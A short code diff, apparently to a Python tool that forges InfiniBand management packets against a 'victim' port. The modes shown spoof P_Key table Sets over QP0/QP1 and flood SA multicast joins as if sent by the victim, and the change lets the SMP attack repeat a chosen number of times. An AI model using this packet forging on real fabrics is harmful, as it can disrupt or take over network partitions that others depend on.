@@ -8,7 +8,7 @@ A and B are the link addresses of both ib0s; the port at B is the victim, and NE
 to it. ATTACK:
 
 smp        a Set of the P_Key table for QP0, in every form: of both SMP classes, with and without
-           a GRH, as from A and as from B itself
+           a GRH, as from A and as from B itself; NUMBER of them, or one of each form
 smp-qp1    the same, for QP1
 sa         NUMBER joins of as many groups, of a thousand if there are more, as from A
 sa-own     likewise as from B itself, by turns with and without a GRH
@@ -93,7 +93,7 @@ class Forger(Injector):
     def attack(self, name, number):
         if name in ("smp", "smp-qp1"):
             frames = self.smps(0 if name == "smp" else 1)
-            number = len(frames)
+            number = number or len(frames)
         else:
             frames = [self.request(name, n) for n in range(min(number, DISTINCT))]
         for n in range(number):
